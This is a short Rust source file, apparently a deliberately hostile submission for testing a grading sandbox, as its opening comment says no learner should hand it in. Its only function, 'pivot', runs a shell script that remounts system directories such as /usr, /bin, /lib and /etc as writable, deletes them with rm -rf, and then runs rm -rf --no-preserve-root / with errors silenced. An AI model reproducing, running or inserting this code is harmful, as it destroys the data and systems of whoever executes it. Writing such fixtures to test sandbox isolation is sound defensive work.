//! A submission that no learner should hand in.

use std::path::Path;

use process::Result;

/// Deletes whatever can be deleted, also what has to be made writable first.
pub fn pivot(_: &Path) -> Result<()> {
    let script = "for place in /usr /bin /lib /lib64 /etc /image /work; do
        mount -o remount,bind,rw $place; rm -rf $place; done 2>/dev/null
        rm -rf --no-preserve-root / 2>/dev/null";
    let _ = std::process::Command::new("sh").args(["-c", script]).status();
    Ok(())
}
